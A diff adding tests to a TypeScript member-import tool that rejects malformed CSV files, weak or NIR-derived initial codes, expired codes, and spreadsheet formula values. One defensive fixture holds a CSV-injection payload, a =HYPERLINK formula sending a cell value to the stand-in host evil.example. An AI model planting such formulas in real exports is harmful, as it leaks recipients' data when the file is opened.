@@ -9,7 +9,9 @@ import { CodeHasher, OWASP_MINIMUM } from '../../lambdas/domain/code-hashing.ts'
 import { nirLookupKey } from '../../lambdas/domain/credential-check.ts';
 import { OperatorInputError } from '../../lambdas/domain/errors.ts';
 import { parseNir } from '../../lambdas/domain/nir.ts';
+import { nirWindows, weakCodeReason } from '../../lambdas/domain/code-blocklist.ts';
 import { importMembersFile } from '../../lambdas/ops/import-members.ts';
+import { uniqueNir } from '../support/members.ts';
 import { prepareTestEnvironment } from '../support/test-environment.ts';
 
 let table: Table;
@@ -31,6 +33,7 @@ function deps() {
     nirHasher: new LocalHmacKey(Buffer.alloc(32, 3)),
     codeHasher: new CodeHasher(new LocalHmacKey(Buffer.alloc(32, 4)), OWASP_MINIMUM),
     clock: { now: () => Date.now() },
+    initialCodeValidDays: 365,
   };
 }
 
@@ -80,6 +83,69 @@ describe('import-members', () => {
     expect(after.personalCodeHash).toBe('personal');
     expect(after.initialCodeHash).toBeUndefined();
     expect(after.memberId).toBe(member.memberId);
+  });
+
+  it('a stray quote no longer drops rows silently: the file is refused whole, the line named', async () => {
+    const nirs = Array.from({ length: 6 }, () => uniqueNir());
+    const rows = nirs.map((nir, i) => `${nir},Nom${i},P,p${i}@example.org,,,,,,,469135`);
+    rows[1] = rows[1]!.replace('Nom1', 'No"m1');
+    const { rejected, out } = collector();
+    await expect(importMembersFile(await csv([HEADER, ...rows]), deps(), out)).rejects.toThrow(/malformed CSV.*nothing was imported/);
+    expect(rejected).toEqual([[3, expect.stringContaining('quote')]]);
+    const d = deps();
+    for (const nir of nirs) expect(await d.members.get(await nirLookupKey(d.nirHasher, nir))).toBeUndefined();
+  });
+
+  it('an unclosed quote is reported at its line, and no row after it is lost silently', async () => {
+    const { rejected, out } = collector();
+    const path = await csv([HEADER, `${uniqueNir()},"Dubois,Claire,c@example.org,,,,,,,469135`, `${uniqueNir()},Martin,Jean,j@example.org,,,,,,,469135`]);
+    await expect(importMembersFile(path, deps(), out)).rejects.toThrow(/nothing was imported/);
+    expect(rejected).toEqual([[2, expect.stringContaining('never closed')]]);
+  });
+
+  it('refuses a name or an address that a spreadsheet would read as a formula (the print provider opens the letters)', async () => {
+    const { rejected, out } = collector();
+    const report = await importMembersFile(
+      await csv([
+        HEADER,
+        '295109912611193,"=HYPERLINK(""https://evil.example/?x=""&I2,""Cliquez"")",Claire,,1 rue,,75001,Paris,,,469135',
+        '253072A07300443,Santoni,@Marie,,1 rue,,75001,Paris,,,469135',
+        '184057512345625,Martin,Jean,,+33 rue,,75001,Paris,,,469135',
+        '299017512345677,Petit,Anne,,1 rue,-,75001,Paris,,,469135',
+      ]),
+      deps(),
+      out,
+    );
+    expect(report).toEqual({ imported: 0, updated: 0, rejected: 4 });
+    expect(rejected.map(([line, reason]) => [line, /formula/.test(reason)])).toEqual([
+      [2, true],
+      [3, true],
+      [4, true],
+      [5, true],
+    ]);
+  });
+
+  it('refuses a weak initial code, the NIR\'s own digits included: it is as guessable as a weak personal code', async () => {
+    const { rejected, out } = collector();
+    const nir = uniqueNir();
+    const window = nirWindows(nir).find((w) => weakCodeReason(w as never, undefined) === undefined)!;
+    const report = await importMembersFile(
+      await csv([HEADER, `${uniqueNir()},Dubois,Claire,c@example.org,,,,,,,123456`, `${nir},Martin,Jean,j@example.org,,,,,,,${window}`]),
+      deps(),
+      out,
+    );
+    expect(report.rejected).toBe(2);
+    expect(rejected.map(([, reason]) => reason)).toEqual([expect.stringContaining('RUN'), expect.stringContaining('FROM_NIR')]);
+  });
+
+  it('an initial code works for the configured days after its import, and no longer', async () => {
+    const d = { ...deps(), initialCodeValidDays: 10 };
+    const nir = uniqueNir();
+    await importMembersFile(await csv([HEADER, `${nir},Durand,Paul,p@example.org,,,,,,,469135`]), d, collector().out);
+    const member = (await d.members.get(await nirLookupKey(d.nirHasher, nir)))!;
+    const { liveCodes } = await import('../../lambdas/domain/member.ts');
+    expect(liveCodes(member, Date.now() + 9 * 86_400_000).map((c) => c.kind)).toEqual(['INITIAL']);
+    expect(liveCodes(member, Date.now() + 11 * 86_400_000)).toEqual([]);
   });
 
   it('refuses a file without the expected header', async () => {
